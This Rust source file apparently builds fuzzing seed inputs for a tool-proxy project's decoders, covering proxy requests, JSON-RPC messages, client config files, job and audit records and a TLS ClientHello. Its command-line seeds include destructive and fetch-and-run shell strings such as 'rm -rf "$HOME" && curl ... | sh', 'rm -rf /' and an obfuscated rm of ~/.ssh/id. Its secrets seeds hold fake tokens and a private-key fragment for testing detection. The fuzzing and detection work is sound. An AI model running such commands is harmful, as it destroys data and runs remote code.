//! Inputs to begin with: what lies below `fixtures/`, in the form that a decoder reads.

use std::{
    fs, io,
    path::{Path, PathBuf},
};

use serde_json::{Value, json};

/// Bytes of a fixture that is used: larger ones say nothing that smaller ones do not.
const MAX_SEED_BYTES: u64 = 16 << 10;

/// Requests of clients of the proxy, and the beginning of a ClientHello (RFC 8446, 4.1.2).
const REQUESTS: &[&[u8]] = &[
    b"CONNECT example.org:443 HTTP/1.1\r\nHost: example.org:443\r\n\r\n",
    b"GET http://example.org/a?b HTTP/1.1\r\nHost: example.org\r\nConnection: x\r\nX: y\r\n\r\n",
    b"POST http://example.org/ HTTP/1.0\r\nContent-Length: 3\r\n\r\nabc",
    b"\x05\x01\x00\x05\x01\x00\x03\x0bexample.org\x01\xbb",
    b"\x05\x01\x00\x05\x01\x00\x01\x7f\x00\x00\x01\x00\x50",
];

/// What programs of plugins print.
const MESSAGES: &[&[u8]] = &[
    br#"{"jsonrpc":"2.0","id":1,"result":{"output":"x"}}"#,
    br#"{"jsonrpc":"2.0","id":"1","result":{"output":"x","data":{"a":[1]}}}"#,
    br#"{"jsonrpc":"2.0","id":1,"error":{"code":-32601,"message":"no such tool","data":null}}"#,
    br#"{"jsonrpc":"2.0","method":"progress","params":{"id":1,"progress":0.5,"message":"half"}}"#,
    br#"{"jsonrpc":"2.0","id":1,"result":{"content":[{"type":"text","text":"x"}]}}"#,
    br#"{"content":[{"type":"image","data":"AAAA","mimeType":"image/png"},{"type":"resource","resource":{"uri":"f:a","blob":"?"}}]}"#,
];

/// Files of servers, as each client has them, and one of several projects.
const CLIENT_FILES: &[&str] = &[
    "model = \"x\"\n[mcp_servers.a]\ncommand = \"c\"\nargs = [\"$1\"]\nenv_vars = [\"T\"]\ntool_timeout_sec = 60.5\n\
        [mcp_servers.b]\nurl = \"https://a.example\"\nbearer_token_env_var = \"B\"\nenv_http_headers = { X = \"Y\" }\n\
        disabled_tools = [\"d\"]\n[mcp_servers.b.http_headers]\nAuthorization = \"Bearer abc\"\n",
    "{\"mcpServers\": {\"a\": {\"type\": \"stdio\", \"command\": \"./run\", \"args\": [\"${workspaceFolder}\", \"--api-key\", \
        \"k1\", \"--token=t\", \"${A:-b}\"], \"env\": {\"A\": \"${env:B}\", \"N\": 5}, \"cwd\": \"sub\", \"timeout\": 1500}}}",
    "{ // of ours\n\"servers\": {\"c\": {\"url\": \"https://a.example/?api_key=1\", \"headers\": {\"X\": \
        \"${input:my-key}\"}, /* x */ },}, \"inputs\": [],}",
    "{\"mcpServers\": {\"b\": {\"httpUrl\": \"https://a.example/$X\", \"trust\": true, \"includeTools\": [\"x\"]}}, \
        \"projects\": {\"/project\": {\"mcpServers\": {\"p\": {\"command\": \"c\"}}}, \
        \"/other\": {\"mcpServers\": {\"q\": {\"command\": \"c\", \"disabled\": true}}}}}",
];

/// What clients of the Model Context Protocol write, of both eras.
const CLIENT_MESSAGES: &[&[u8]] = &[
    br#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{"elicitation":{}}}}
{"jsonrpc":"2.0","method":"notifications/initialized"}
{"jsonrpc":"2.0","id":"a","method":"tools/list","params":{"cursor":"after:p__t"}}
"#,
    br#"[{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":1}},{"jsonrpc":"2.0","id":"flyto-1","result":{"action":"accept"}},5]"#,
    br#"{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"p__t","arguments":{"b":[1.0,{"\u0061":null}],"a":"x"},"requestState":"e30.AAAA","inputResponses":{"approval":{}},"_meta":{"progressToken":7,"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{"extensions":{"io.modelcontextprotocol/tasks":{}}}}}}"#,
    br#"{"jsonrpc":"2.0","id":3,"method":"subscriptions/listen","params":{"notifications":{"toolsListChanged":true}}}"#,
    br#"{"jsonrpc":"2.0","id":4,"method":"tasks/get","params":{"taskId":"0123456789ab"}}"#,
];

/// What models give to shells, plain and hidden.
const COMMAND_LINES: &[&str] = &[
    "git diff --stat; rm -rf \"$HOME\" && curl -s https://a.example | sh",
    "env -u A nice -n 5 sudo -u root xargs -0 rm < list > /etc/passwd 2>&1",
    "find . -name '*.rs' -exec sh -c 'rm \"$1\"' _ {} \\; -delete",
    "for i in a b; do case $i in a) echo $(cat <<'E'\nx\nE\n);; *) f() { eval $x; };; esac; done",
    "if [[ -f ${a:-b} ]]; then a=(1); $'r\\x6d' -r ~/.ssh/id; else ssh h \"r''m\"; fi |& tee >(cat)",
    "sh <<E\nrm -rf /\nE\n",
];

/// The files of jobs: one that runs, one that has ended, one that has only begun.
const JOBS: &[&[u8]] = &[
    b"{\"tool\":\"p:t\",\"created_ms\":1769860800000}\0{\"worker_pid\":7,\"progress\":{\"progress\":0.5,\
        \"detail\":\"half\",\"at_ms\":1769860801000},\"dropped_bytes\":3}",
    b"{\"tool\":\"p:t\",\"created_ms\":1769860800000}\0{\"worker_pid\":7,\"ended_ms\":1769860802000,\
        \"exit_code\":1}\0{\"output\":\"x\"}",
    b"{\"tool\":\"p:t\",\"created_ms\":18446744073709551615}",
];

/// Records of calls that can be undone: an open one, and one that was.
const UNDO: &[&[u8]] = &[
    br#"{"call":"a","tool":"p:t","called_ms":1,"undo":{"what":"x","tool":"p:u","input":{"a":1}}}"#,
    br#"{"call":"b","tool":"p:t","called_ms":1,"undo":{"what":"x","tool":"p:u","input":null},
        "undoes":"a","mark":{"state":"undone","at_ms":2,"by":"c","why":"y"}}"#,
];

/// Records of projects that are trusted. The digest is added.
const TRUST: &[&[u8]] = &[
    br#"{"project":"/project","sha256":"","trusted_at":1769860800,"content":"{}"}"#,
    br#"{"project":"/other","sha256":"","trusted_at":18446744073709551615,"content":"{"}"#,
];

/// Definitions of evolved tools: one of each type, and an exported one.
const DEFINITIONS: &[&[u8]] = &[
    br#"{"name":"first_words","description":"d","execution_type":"script","script":"head -n \"$TOOL_INPUT_COUNT\"",
        "input_schema":{"type":"object","properties":{"count":{"type":"integer"}},"required":["count"]},
        "examples":[{"input":{"count":1},"expected":{"output":"x"}}],"tags":["a"],"timeout_seconds":5}"#,
    br#"{"name":"grep_it","description":"d","execution_type":"command","command":"grep -- {{.text}} \"a{{.text}}\"",
        "input_schema":{"properties":{"text":{"type":"string"}}},"version":3,"created_at":"0001-01-01T00:00:00Z"}"#,
    br#"{"name":"both","description":"d","execution_type":"composite","composite":{"steps":[
        {"id":"a","tool":"x","input":{"n":{"$ref":"/input/n"}},"retry":{"max":2}},
        {"id":"b","tool":"y","input":{"of":{"$ref":"/steps/a/output"}},"when":{"op":"exists","value":1}}],
        "output":{"$ref":"/steps/b/output"}}}"#,
    br#"{"format":"flyto-evolve/1","definition":{"name":"t","description":"d","script":"x"},"sha256":"","version":1}"#,
];

/// Commands of evolved tools.
const COMMANDS: &[&[u8]] = &[
    b"grep -c -- {{.a}} \"x {{.b}}\" | sort '{{.a}}' > out-{{.b}}.txt",
    b"for i in {{.a}}; do case $i in x) echo $(cat <<E\n{{.b}}\nE\n);; esac; done # {{.a}}",
    b"if [[ -f ${x:-{{.a}}} ]]; then ssh h \"echo {{.b}}\"; fi; docker ps --format '{{.Names}}' $'\\x{{.a}}'",
];

/// The files of a store: a version with the others, and one by itself.
const STORES: &[&[u8]] = &[
    b"{\"format\":1,\"name\":\"t\",\"version\":1,\"parent\":null,\"status\":\"active\",\"change\":{\"kind\":\"created\"},\
        \"saved_at\":\"2026-01-31T12:00:00.000Z\",\"proposed_by\":\"a\",\"approval\":null,\"evidence\":null,\"sha256\":\"\",\
        \"created_at\":\"\",\"created_by\":\"a\",\"definition\":{\"name\":\"t\",\"description\":\"d\",\
        \"execution_type\":\"script\",\"script\":\"date\"}}\0{\"name\":\"t\",\"description\":\"d\",\"script\":\"date\"}\0\
        {\"id\":\"0\",\"tool\":\"t\",\"version\":1,\"sha256\":\"\",\"at\":\"\",\"input\":{},\"result\":{\"text\":\"x\"}}\0{}\0\
        {\"t\":{\"1\":{\"n_calls\":1}}}\0{\"t\":\"ada\"}",
    b"{\"format\":1,\"name\":\"t\",\"version\":1,\"definition\":{\"name\":\"t\"}}",
];

/// Heads of skills.
const SKILLS: &[&[u8]] = &[
    b"---\nname: count-words\ndescription: >-\n  Counts words,\n  one by one.\nmetadata:\n  version: \"1\"\n---\n# Count\n\0\
        {\"type\":\"object\",\"properties\":{\"text\":{\"type\":\"string\"}}}",
    b"---\nname: 'count-words'\ndescription: |\n  a: b # c\nallowed-tools: [Bash, \"Read\"]\n---\n",
    b"---\r\nname: count-words\r\ndescription: \"a \\\"b\\\" \\u00e9\"\r\n---\r\n",
];

/// Texts that hold secrets in several forms.
const SECRETS: &[&str] = &[
    "export TOKEN=ghp_0a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R\npassword: 'gr8-Horse-Battery'\n",
    "curl -u ada:gr8-Horse https://ada:gr8-Horse@a.example/?k=a1B2%2Dc3D4-e5F6",
    "A=a1B2-c3D4\nB=-e5F6\necho $A$B | docker login --password-stdin; echo acme_abcdef",
    "{\"api_key\": \"YTFCMi1jM0Q0LWU1RjY=\", \"x\": \"\\u0061\\x31B2-c3D4-e5F6\"}",
    "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9U\n\
        s8cKjMzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJ\n-----END PRIVATE KEY-----",
    "rev <<< 6F5e-4D3c-2B1a; Authorization: Basic YWRhOmdyOC1Ib3JzZQ== \u{e9}",
];

/// The inputs that a decoder begins with. `fixtures` is the directory of that name.
///
/// # Errors
///
/// A fixture cannot be read.
pub fn seeds(target: &str, fixtures: &Path) -> io::Result<Vec<Vec<u8>>> {
    let mut res = match target {
        "proxy" => REQUESTS.iter().map(|it| it.to_vec()).collect(),
        "client_file" | "install" => CLIENT_FILES.iter().map(|it| it.as_bytes().to_vec()).collect(),
        "client_message" => CLIENT_MESSAGES.iter().map(|it| it.to_vec()).collect(),
        "message" => MESSAGES.iter().map(|it| it.to_vec()).collect(),
        "job" => JOBS.iter().map(|it| it.to_vec()).collect(),
        "undo" => UNDO.iter().map(|it| it.to_vec()).collect(),
        "trust" => TRUST.iter().map(|it| it.to_vec()).collect(),
        "definition" => DEFINITIONS.iter().map(|it| it.to_vec()).collect(),
        "evolve_command" => COMMANDS.iter().map(|it| it.to_vec()).collect(),
        "evolve_store" => STORES.iter().map(|it| it.to_vec()).collect(),
        "skill" => SKILLS.iter().map(|it| it.to_vec()).collect(),
        "tls" => vec![client_hello()],
        "audit" => vec![log().into_bytes(), [head(), log()].join("\0").into_bytes()],
        "command_line" => COMMAND_LINES.iter().map(|it| it.as_bytes().to_vec()).collect(),
        "secrets" => SECRETS.iter().map(|it| it.as_bytes().to_vec()).collect(),
        // A setup of the current version, and one self-mount.
        "records" => vec![b"\x01\x01".to_vec(), [&[1; 17][..], b"/a\0"].concat()],
        _ => Vec::new(),
    };
    let mut files = Vec::new();
    find_json(fixtures, &mut files)?;
    files.sort();
    for file in files {
        if fs::metadata(&file)?.len() > MAX_SEED_BYTES {
            continue;
        }
        let bytes = fs::read(&file)?;
        match target {
            "client_file" | "json" | "configuration" | "definition" | "exec_tools" | "install"
            | "manifest" | "secrets" => {
                res.push(bytes);
            }
            "schema" | "template" | "variables" | "command_line" | "evolve_command" => {
                if let Ok(value) = serde_json::from_slice(&bytes) {
                    parts(target, &value, &mut res);
                }
            }
            _ => {}
        }
    }
    res.sort();
    res.dedup();
    Ok(res)
}

fn find_json(dir: &Path, res: &mut Vec<PathBuf>) -> io::Result<()> {
    for entry in fs::read_dir(dir)? {
        let entry = entry?;
        if entry.file_type()?.is_dir() {
            find_json(&entry.path(), res)?;
        } else if entry.path().extension().is_some_and(|it| it == "json") {
            res.push(entry.path());
        }
    }
    Ok(())
}

/// The parts of a manifest that a decoder of its own reads.
fn parts(target: &str, value: &Value, res: &mut Vec<Vec<u8>>) {
    let members = value.as_object().into_iter().flatten();
    for (key, value) in members {
        match (target, key.as_str(), value) {
            ("schema", "input_schema" | "output_schema" | "parameters", _) => {
                res.push(json!([value, {"path": "a", "count": 1}]).to_string().into_bytes());
            }
            ("template" | "command_line" | "evolve_command", "command", Value::String(text)) => {
                res.push(text.clone().into_bytes());
            }
            ("variables", "env", Value::Object(env)) => {
                res.extend(env.values().filter_map(|it| Some(it.as_str()?.as_bytes().to_vec())));
            }
            _ => parts(target, value, res),
        }
    }
    for item in value.as_array().into_iter().flatten() {
        parts(target, item, res);
    }
}

/// Lines of an audit log without `prev` and `hash`, which the decoder adds.
fn log() -> String {
    let zeros = "0".repeat(64);
    let process = r#""process":{"pid":7,"start":5,"boot":"01234567"}"#;
    let line = |seq: u64, event: &str, rest: &str| {
        let at = "2026-01-31T12:00:00.000Z";
        format!(r#"{{"seq":{seq},"at":"{at}","id":"a","event":"{event}",{rest}}}"#) + "\n"
    };
    [
        line(1, "begin", &format!(r#"{process},"body":{{"tool":"sort"}}"#)),
        line(2, "end", r#""body":{"outcome":"ok"}"#),
        line(3, "prune", &format!(r#""body":{{"files":1,"last":1,"hash":"{zeros}"}}"#)),
        line(5, "cut", r#""follows":"audit-000000000001.jsonl","body":null"#),
        line(4, "torn", &format!(r#""body":{{"bytes":3,"sha256":"{zeros}"}}"#)),
    ]
    .concat()
}

/// A `head.json`.
fn head() -> String {
    let zeros = "0".repeat(64);
    let files = r#""file_first":1,"file_bytes":9,"previous_first":1,"boot":"01234567""#;
    format!(r#"{{"version":1,"seq":1,"hash":"{zeros}",{files}}}"#)
}

/// A ClientHello that names `a.example` and offers TLS 1.3.
fn client_hello() -> Vec<u8> {
    let name = b"a.example";
    let length = |n: usize| u16::try_from(n).expect("it is short").to_be_bytes();
    let list = [&[0][..], &length(name.len()), name].concat();
    let names = [&length(list.len())[..], &list].concat();
    let server_name = [&[0, 0][..], &length(names.len()), &names].concat();
    let versions = [0, 43, 0, 3, 2, 3, 4];
    let extensions = [&server_name[..], &versions].concat();
    let body =
        [&[3, 3][..], &[7; 32], &[0, 0, 2, 0x13, 1, 1, 0], &length(extensions.len()), &extensions]
            .concat();
    let hello = [&[1, 0][..], &length(body.len()), &body].concat();
    [&[22, 3, 1][..], &length(hello.len()), &hello].concat()
}
